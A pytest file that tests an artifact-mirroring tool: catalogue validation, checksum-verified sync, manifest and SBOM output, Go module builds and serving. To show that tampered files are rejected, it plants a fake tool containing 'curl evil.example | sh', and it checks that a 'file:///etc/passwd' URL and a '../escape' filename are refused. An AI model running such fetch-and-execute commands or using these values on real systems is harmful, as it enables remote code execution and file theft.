"""sovctl.mirror: the catalogue, sync (cache, checksums, manifest, SBOM), serve, and the
artifact role's interface. Upstreams are small fixture files served on 127.0.0.1."""

from __future__ import annotations

import hashlib
import io
import json
import re
import threading
import urllib.request
import zipfile
from pathlib import Path

import pytest
import yaml
from click.testing import CliRunner

from sovctl import mirror
from sovctl.cli import cli
from sovctl.errors import InputError
from sovctl.paths import project_root
from tests.helpers import role_filters

ROLE = project_root() / "roles" / "artifact"


# --------------------------------------------------------------------------
# Fixtures: an "upstream" web server on loopback and a catalogue that uses it


def _zip_bytes(top: str, files: dict[str, str]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        for name, text in files.items():
            info = zipfile.ZipInfo(f"{top}/{name}", date_time=(2020, 1, 1, 0, 0, 0))
            zf.writestr(info, text)
    return buf.getvalue()


def sha(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


class Upstream:
    """A directory served over HTTP on 127.0.0.1, counting the GET requests."""

    def __init__(self, root: Path):
        self.root = root
        root.mkdir(parents=True, exist_ok=True)
        self.requests: list[str] = []
        self.server = mirror.make_server(root, "127.0.0.1", 0, log=self.requests.append)
        self.url = mirror.server_url(self.server).rstrip("/")
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()

    def put(self, rel: str, data: bytes) -> None:
        path = self.root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)

    def gets(self) -> int:
        return sum('"GET ' in r for r in self.requests)

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


ZIP_V1 = _zip_bytes("demo-1.0.0", {"bin/demo.sh": "#!/bin/sh\necho 1.0.0\n"})
ZIP_V2 = _zip_bytes("demo-2.0.0", {"bin/demo.sh": "#!/bin/sh\necho 2.0.0\n"})
TOOL = b"#!/bin/sh\necho tool\n"


@pytest.fixture
def upstream(tmp_path):
    up = Upstream(tmp_path / "upstream")
    up.put("maven2/org/example/demo-dist/1.0.0/demo-dist-1.0.0.zip", ZIP_V1)
    up.put("maven2/org/example/demo-dist/2.0.0/demo-dist-2.0.0.zip", ZIP_V2)
    up.put("releases/tool", TOOL)
    yield up
    up.close()


def write_catalogue(path: Path, upstream: Upstream, extra: list | None = None) -> Path:
    data = {
        "format": 1,
        "go_toolchains": {},
        "artifacts": [
            {"name": "demo", "version": "2.0.0", "filename": "demo-dist-2.0.0.zip",
             "sha256": sha(ZIP_V2), "format": "zip", "strip": "demo-2.0.0",
             "license": "Apache-2.0", "description": "demo server",
             "sources": [{"kind": "maven", "coordinates": "org.example:demo-dist:2.0.0:zip"}]},
            {"name": "demo", "version": "1.0.0", "filename": "demo-dist-1.0.0.zip",
             "sha256": sha(ZIP_V1), "format": "zip", "strip": "demo-1.0.0",
             "sources": [{"kind": "maven", "coordinates": "org.example:demo-dist:1.0.0:zip"}]},
            {"name": "tool", "version": "0.1.0", "filename": "tool", "sha256": sha(TOOL),
             "format": "binary", "binary": "bin/tool",
             "sources": [{"kind": "url", "url": f"{upstream.url}/releases/tool"}]},
            *(extra or []),
        ],
    }
    save(path, data)
    return path


def load(path: Path) -> dict:
    return yaml.safe_load(path.read_text())[mirror.CATALOGUE_VAR]


def save(path: Path, data: dict) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(yaml.safe_dump({mirror.CATALOGUE_VAR: data}, sort_keys=False))


@pytest.fixture
def cat(tmp_path, upstream):
    return mirror.load_catalogue(write_catalogue(tmp_path / "catalogue.yml", upstream))


@pytest.fixture
def cache(tmp_path):
    return mirror.Cache(tmp_path / "cache")


def do_sync(directory, cat, cache, upstream, **kw):
    return mirror.sync(directory, catalogue=cat, cache=cache,
                       maven_repository=f"{upstream.url}/maven2", log=lambda m: None, **kw)


# --------------------------------------------------------------------------
# The shipped catalogue


def test_shipped_catalogue_is_valid_and_pins_what_the_roles_need():
    cat = mirror.load_catalogue()
    assert cat.path == project_root() / "roles/artifact/vars/catalogue.yml"
    keycloak = cat.versions("keycloak")
    assert len(keycloak) >= 2, "the Keycloak upgrade test needs N-1 and N"
    assert cat.get("keycloak").version == keycloak[-1]
    for a in cat.select(["keycloak"]):
        (maven,) = [s for s in a.sources if s["kind"] == "maven"]
        assert maven["coordinates"] == f"org.keycloak:keycloak-quarkus-dist:{a.version}:zip"
        assert a.filename == f"keycloak-quarkus-dist-{a.version}.zip"
        assert a.strip == f"keycloak-{a.version}"
    lk = cat.get("livekit-server")
    (src,) = lk.sources
    assert src["kind"] == "go-module" and src["version"] == f"v{lk.version}"
    assert cat.go_toolchains[src["toolchain"]]["linux-amd64"]
    assert lk.platform == "linux-amd64" and lk.binary == "bin/livekit-server"
    assert mirror.purl(lk) == "pkg:golang/github.com/livekit/livekit-server@v1.13.5#cmd/server"
    assert mirror.purl(cat.get("keycloak", "26.7.3")) == \
        "pkg:maven/org.keycloak/keycloak-quarkus-dist@26.7.3?type=zip"


@pytest.mark.parametrize(("change", "field"), [
    ({"sha256": "abc"}, "artifacts[0] (demo 2.0.0).sha256"),
    ({"format": "rpm"}, "artifacts[0] (demo 2.0.0).format"),
    ({"sources": []}, "artifacts[0] (demo 2.0.0).sources"),
    ({"sources": [{"kind": "ftp"}]}, "artifacts[0] (demo 2.0.0).sources[0].kind"),
    ({"sources": [{"kind": "url", "url": "file:///etc/passwd"}]},
     "artifacts[0] (demo 2.0.0).sources[0].url"),
    ({"sources": [{"kind": "go-module", "module": "example.com/x", "version": "v1.0.0",
                   "toolchain": "go1.99.0"}]}, "go_toolchains"),
    ({"filename": "../escape"}, "artifacts[0] (demo 2.0.0).filename"),
    ({"version": "1.0.0"}, "artifacts[1] (demo 1.0.0)"),  # listed twice
])
def test_catalogue_problems_name_the_file_and_the_field(tmp_path, upstream, change, field):
    path = write_catalogue(tmp_path / "catalogue.yml", upstream)
    data = load(path)
    data["artifacts"][0].update(change)
    save(path, data)
    with pytest.raises(InputError) as err:
        mirror.load_catalogue(path)
    assert str(path) in err.value.message
    assert field in err.value.message


def test_unknown_names_and_versions_list_what_exists(cat):
    with pytest.raises(InputError, match="no artifact named 'nope'") as err:
        cat.select(["nope"])
    assert err.value.hint == "known artifacts: demo, tool"
    with pytest.raises(InputError, match="demo has no version '3.0.0'") as err:
        cat.select(["demo@3.0.0"])
    assert err.value.hint == "catalogued versions: 1.0.0, 2.0.0"
    assert [a.ref for a in cat.select(["demo@1.0.0", "tool"])] == ["demo@1.0.0", "tool@0.1.0"]


def test_versions_sort_as_numbers():
    assert sorted(["26.10.0", "26.5.6", "26.7.3"], key=mirror.version_key) == \
        ["26.5.6", "26.7.3", "26.10.0"]


def test_maven_coordinates_become_central_urls():
    assert mirror.maven_url("org.keycloak:keycloak-quarkus-dist:26.7.3:zip") == (
        "https://repo1.maven.org/maven2/org/keycloak/keycloak-quarkus-dist/26.7.3/"
        "keycloak-quarkus-dist-26.7.3.zip")
    assert mirror.maven_url("a.b:c:1:jar:sources", "https://m.example.eu/").endswith(
        "/a/b/c/1/c-1-sources.jar")
    with pytest.raises(InputError):
        mirror.maven_url("only:two")


# --------------------------------------------------------------------------
# The role computes the same download URLs as sovctl, from the same catalogue


def _role_filters():
    return role_filters("artifact")


def test_role_and_sovctl_agree_on_download_urls():
    urls = _role_filters()["artifact_urls"]
    raw = load(ROLE / "vars" / "catalogue.yml")
    cat = mirror.load_catalogue()
    for entry in raw["artifacts"]:
        a = cat.get(entry["name"], entry["version"])
        assert urls(entry) == mirror.source_urls(a)
        assert urls(entry, "http://mirror.example.eu/sov/") == \
            [f"http://mirror.example.eu/sov/{a.name}/{a.version}/{a.filename}"]
    keycloak = next(e for e in raw["artifacts"] if e["name"] == "keycloak")
    assert urls(keycloak)[0].startswith("https://repo1.maven.org/maven2/org/keycloak/")
    livekit = next(e for e in raw["artifacts"] if e["name"] == "livekit-server")
    assert urls(livekit) == []  # built by `sovctl mirror sync`, never on hosts


def test_role_interface_is_documented():
    specs = yaml.safe_load((ROLE / "meta" / "argument_specs.yml").read_text())["argument_specs"]
    assert {"install", "activate", "main"} <= set(specs)
    options = specs["install"]["options"]
    readme = (ROLE / "README.md").read_text()
    defaults = yaml.safe_load((ROLE / "defaults" / "main.yml").read_text())
    for name in options:
        assert f"`{name}`" in readme, f"{name} is missing from roles/artifact/README.md"
        assert name.startswith(("artifact_", "sov_"))
    assert set(defaults) <= set(options)
    assert "artifact_result" in readme
    meta = yaml.safe_load((ROLE / "meta" / "main.yml").read_text())
    assert meta["dependencies"] == []


# --------------------------------------------------------------------------
# sync


def test_sync_fetches_verifies_and_writes_manifest_and_sbom(tmp_path, cat, cache, upstream):
    out = tmp_path / "mirror"
    result = do_sync(out, cat, cache, upstream)
    assert {e.artifact.ref: e.status for e in result.entries} == {
        "demo@2.0.0": "downloaded", "demo@1.0.0": "downloaded", "tool@0.1.0": "downloaded"}
    assert (out / "demo/2.0.0/demo-dist-2.0.0.zip").read_bytes() == ZIP_V2
    assert (out / "tool/0.1.0/tool").read_bytes() == TOOL
    assert (out / "tool/0.1.0/tool.sha256").read_text() == f"{sha(TOOL)}  tool\n"

    manifest = json.loads((out / "manifest.json").read_text())
    assert manifest["layout"] == "<name>/<version>/<filename>"
    rows = {(r["name"], r["version"]): r for r in manifest["artifacts"]}
    assert rows["demo", "2.0.0"]["path"] == "demo/2.0.0/demo-dist-2.0.0.zip"
    assert rows["demo", "2.0.0"]["sha256"] == sha(ZIP_V2)
    assert rows["demo", "2.0.0"]["obtained_from"] == "maven org.example:demo-dist:2.0.0:zip"

    bom = json.loads((out / "sbom.cdx.json").read_text())
    assert bom["bomFormat"] == "CycloneDX" and bom["specVersion"] == "1.5"
    assert bom["serialNumber"].startswith("urn:uuid:") and bom["version"] == 1
    assert bom["metadata"]["tools"]["components"][0]["name"] == "sovctl"
    comps = {(c["name"], c["version"]): c for c in bom["components"]}
    assert set(comps) == {("demo", "2.0.0"), ("demo", "1.0.0"), ("tool", "0.1.0")}
    demo = comps["demo", "2.0.0"]
    assert demo["purl"] == "pkg:maven/org.example/demo-dist@2.0.0?type=zip"
    assert demo["hashes"] == [{"alg": "SHA-256", "content": sha(ZIP_V2)}]
    assert demo["licenses"] == [{"license": {"id": "Apache-2.0"}}]
    assert {"type": "distribution", "url": mirror.maven_url("org.example:demo-dist:2.0.0:zip")} \
        in demo["externalReferences"]
    assert {"name": "sovctl:mirror-path", "value": "demo/2.0.0/demo-dist-2.0.0.zip"} \
        in demo["properties"]
    tool = comps["tool", "0.1.0"]
    assert tool["purl"].startswith("pkg:generic/tool@0.1.0?download_url=http%3A%2F%2F127.0.0.1")
    assert {d["ref"] for d in bom["dependencies"]} == {"sovctl-artifact-mirror"}
    assert set(bom["dependencies"][0]["dependsOn"]) == {c["bom-ref"] for c in bom["components"]}


def test_second_sync_downloads_nothing(tmp_path, cat, cache, upstream):
    do_sync(tmp_path / "one", cat, cache, upstream)
    fetched = upstream.gets()
    assert fetched == 3
    again = do_sync(tmp_path / "one", cat, cache, upstream)
    assert {e.status for e in again.entries} == {"present"}
    other = do_sync(tmp_path / "two", cat, cache, upstream)
    assert {e.status for e in other.entries} == {"cached"}
    assert upstream.gets() == fetched
    assert (tmp_path / "two/demo/1.0.0/demo-dist-1.0.0.zip").read_bytes() == ZIP_V1


def test_tampered_upstream_file_is_refused(tmp_path, cat, cache, upstream):
    upstream.put("releases/tool", b"#!/bin/sh\ncurl evil.example | sh\n")
    out = tmp_path / "mirror"
    with pytest.raises(mirror.ArtifactError) as err:
        do_sync(out, cat, cache, upstream)
    got = sha(b"#!/bin/sh\ncurl evil.example | sh\n")
    assert "tool 0.1.0" in err.value.message
    assert f"sha256 mismatch: expected {sha(TOOL)}, got {got}" in err.value.message
    assert err.value.exit_code == 69
    assert not (out / "tool").exists()
    assert cache.lookup(sha(TOOL)) is None and cache.lookup(got) is None
    # The other artifacts were synced; the manifest lists only verified files.
    names = [a["name"] for a in json.loads((out / "manifest.json").read_text())["artifacts"]]
    assert names == ["demo", "demo"]


def test_sources_are_tried_in_order(tmp_path, upstream, cache):
    upstream.put("bad/tool", b"not the tool")
    extra_sources = [{"kind": "url", "url": f"{upstream.url}/missing/tool"},
                     {"kind": "url", "url": f"{upstream.url}/bad/tool"},
                     {"kind": "url", "url": f"{upstream.url}/releases/tool"}]
    path = write_catalogue(tmp_path / "c.yml", upstream)
    data = load(path)
    data["artifacts"][2]["sources"] = extra_sources
    save(path, data)
    result = do_sync(tmp_path / "m", mirror.load_catalogue(path), cache, upstream, only=["tool"])
    assert result.entries[0].provenance["source"] == f"url {upstream.url}/releases/tool"


def test_a_corrupted_cache_entry_is_fetched_again(tmp_path, cat, cache, upstream):
    do_sync(tmp_path / "one", cat, cache, upstream, only=["tool"])
    (cache.blobs / sha(TOOL)).write_bytes(b"bit rot")
    result = do_sync(tmp_path / "two", cat, cache, upstream, only=["tool"])
    assert result.entries[0].status == "downloaded"
    assert (tmp_path / "two/tool/0.1.0/tool").read_bytes() == TOOL


def test_a_changed_file_in_the_mirror_is_replaced(tmp_path, cat, cache, upstream):
    out = tmp_path / "mirror"
    do_sync(out, cat, cache, upstream, only=["tool"])
    (out / "tool/0.1.0/tool").write_bytes(b"edited")
    result = do_sync(out, cat, cache, upstream, only=["tool"])
    assert result.entries[0].status == "cached"
    assert (out / "tool/0.1.0/tool").read_bytes() == TOOL


def test_only_keeps_the_rest_of_the_mirror_in_the_manifest(tmp_path, cat, cache, upstream):
    out = tmp_path / "mirror"
    do_sync(out, cat, cache, upstream, only=["demo@1.0.0"])
    result = do_sync(out, cat, cache, upstream, only=["tool"])
    assert [e.artifact.ref for e in result.entries] == ["tool@0.1.0"]
    listed = json.loads((out / "manifest.json").read_text())["artifacts"]
    assert sorted(f"{a['name']}@{a['version']}" for a in listed) == ["demo@1.0.0", "tool@0.1.0"]


# --------------------------------------------------------------------------
# go-module sources, with a stand-in toolchain (a real build: tests/integration)


FAKE_GO = """#!/bin/sh
# Stands in for `go`: records how it was called.
if [ "$1" = version ]; then
  printf '%s: go1.99.0\\n\\tpath\\texample.com/hello\\n' "$3"
  printf '\\tdep\\texample.com/dep\\tv1.2.3\\th1:abc=\\n'
  exit 0
fi
mkdir -p "$GOPATH/bin"
printf 'built %s\\nCGO_ENABLED=%s GOTOOLCHAIN=%s GOENV=%s GOOS=%s GOARCH=%s\\n' "$*" \\
  "$CGO_ENABLED" "$GOTOOLCHAIN" "$GOENV" "$GOOS" "$GOARCH" > "$GOPATH/bin/hello"
"""


def _toolchain_zip(version: str, plat: str) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        info = zipfile.ZipInfo(f"golang.org/toolchain@v0.0.1-{version}.{plat}/bin/go")
        info.external_attr = 0o755 << 16
        zf.writestr(info, FAKE_GO)
    return buf.getvalue()


def test_go_module_built_with_the_pinned_toolchain(tmp_path, upstream, cache, monkeypatch):
    plat = mirror.host_platform()
    toolchain = _toolchain_zip("go1.99.0", plat)
    upstream.put(f"goproxy/golang.org/toolchain/@v/v0.0.1-go1.99.0.{plat}.zip", toolchain)
    monkeypatch.setenv("GOPROXY", f"{upstream.url}/goproxy,direct")
    expected = (b"built install -trimpath -buildvcs=false example.com/hello/cmd/hello@v1.0.0\n"
                b"CGO_ENABLED=0 GOTOOLCHAIN=local GOENV=off GOOS=linux GOARCH=arm64\n")
    entry = {"name": "hello", "version": "1.0.0", "filename": "hello-linux-arm64",
             "sha256": sha(expected), "format": "binary", "binary": "bin/hello",
             "platform": "linux-arm64",
             "sources": [{"kind": "go-module", "module": "example.com/hello",
                          "package": "cmd/hello", "version": "v1.0.0",
                          "toolchain": "go1.99.0"}]}
    path = write_catalogue(tmp_path / "c.yml", upstream, [entry])
    data = load(path)
    data["go_toolchains"] = {"go1.99.0": {plat: sha(toolchain)}}
    save(path, data)
    cat = mirror.load_catalogue(path)

    result = do_sync(tmp_path / "m", cat, cache, upstream, only=["hello"])
    assert result.entries[0].status == "built"
    assert (tmp_path / "m/hello/1.0.0/hello-linux-arm64").read_bytes() == expected
    bom = json.loads((tmp_path / "m/sbom.cdx.json").read_text())
    (hello,) = [c for c in bom["components"] if c["name"] == "hello"]
    assert hello["purl"] == "pkg:golang/example.com/hello@v1.0.0#cmd/hello"
    assert {"name": "sovctl:go-toolchain", "value": "go1.99.0"} in hello["properties"]
    assert {"name": "sovctl:build-flags", "value": "CGO_ENABLED=0 -trimpath -buildvcs=false"} \
        in hello["properties"]
    nested = {c["name"]: c for c in hello["components"]}
    assert nested["example.com/dep"]["purl"] == "pkg:golang/example.com/dep@v1.2.3"
    assert nested["stdlib"]["version"] == "go1.99.0"

    # A toolchain that does not match its pinned sha256 is never run.
    data["go_toolchains"]["go1.99.0"][plat] = "0" * 64
    data["artifacts"][-1]["sha256"] = "1" * 64
    save(path, data)
    with pytest.raises(mirror.ArtifactError, match="Go toolchain go1.99.0.*sha256 mismatch"):
        do_sync(tmp_path / "m2", mirror.load_catalogue(path), mirror.Cache(tmp_path / "c2"),
                upstream, only=["hello"])


# --------------------------------------------------------------------------
# serve and the CLI


def test_serve_serves_the_mirror(tmp_path, cat, cache, upstream):
    out = tmp_path / "mirror"
    do_sync(out, cat, cache, upstream)
    server = mirror.make_server(out, "127.0.0.1", 0)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        base = mirror.server_url(server)
        with urllib.request.urlopen(f"{base}tool/0.1.0/tool", timeout=5) as resp:  # noqa: S310
            assert resp.read() == TOOL
        with urllib.request.urlopen(f"{base}manifest.json", timeout=5) as resp:  # noqa: S310
            assert json.load(resp)["format"] == 1
    finally:
        server.shutdown()
        server.server_close()


def test_serve_refuses_a_missing_directory(tmp_path):
    with pytest.raises(InputError, match="no such directory"):
        mirror.make_server(tmp_path / "nope")


@pytest.fixture
def sovctl_home(tmp_path, upstream, monkeypatch):
    """A copy of the sovctl content whose catalogue points at the loopback upstream."""
    home = tmp_path / "home"
    (home / "playbooks").mkdir(parents=True)
    (home / "playbooks" / "site.yml").write_text("---\n[]\n")
    write_catalogue(home / "roles/artifact/vars/catalogue.yml", upstream)
    monkeypatch.setenv("SOVCTL_HOME", str(home))
    monkeypatch.setenv("SOVCTL_CACHE_DIR", str(tmp_path / "cache"))
    monkeypatch.setenv("SOVCTL_MAVEN_REPOSITORY", f"{upstream.url}/maven2")
    return home


def test_cli_sync_and_list(tmp_path, sovctl_home, upstream):
    runner = CliRunner()
    listed = runner.invoke(cli, ["mirror", "list"])
    assert listed.exit_code == 0, listed.output
    assert "maven org.example:demo-dist:2.0.0:zip" in listed.output
    out = tmp_path / "mirror"
    result = runner.invoke(cli, ["mirror", "sync", str(out), "--only", "demo@2.0.0"])
    assert result.exit_code == 0, result.output
    assert re.search(r"^demo +2\.0\.0 +downloaded +demo/2\.0\.0/", result.output, re.M)
    assert "manifest.json" in result.output and "sbom.cdx.json" in result.output
    assert (tmp_path / "cache/artifacts/sha256" / sha(ZIP_V2)).is_file()


def test_cli_sync_refuses_a_tampered_file_with_exit_69(tmp_path, sovctl_home, upstream):
    upstream.put("maven2/org/example/demo-dist/1.0.0/demo-dist-1.0.0.zip", b"evil")
    result = CliRunner().invoke(cli, ["mirror", "sync", str(tmp_path / "m"), "--only", "demo"])
    assert result.exit_code == 69
    assert f"demo 1.0.0: no source gave the file with sha256 {sha(ZIP_V1)}" in result.output
    assert f"got {sha(b'evil')}" in result.output


def test_cli_unknown_artifact_is_bad_input(tmp_path, sovctl_home):
    result = CliRunner().invoke(cli, ["mirror", "sync", str(tmp_path / "m"), "--only", "nope"])
    assert result.exit_code == 65
    assert "no artifact named 'nope'" in result.output


def test_default_cache_dir_follows_the_environment(monkeypatch, tmp_path):
    monkeypatch.delenv("SOVCTL_CACHE_DIR", raising=False)
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path))
    assert mirror.default_cache_dir() == tmp_path / "sovctl"
    monkeypatch.setenv("SOVCTL_CACHE_DIR", "/srv/cache")
    assert mirror.default_cache_dir() == Path("/srv/cache")
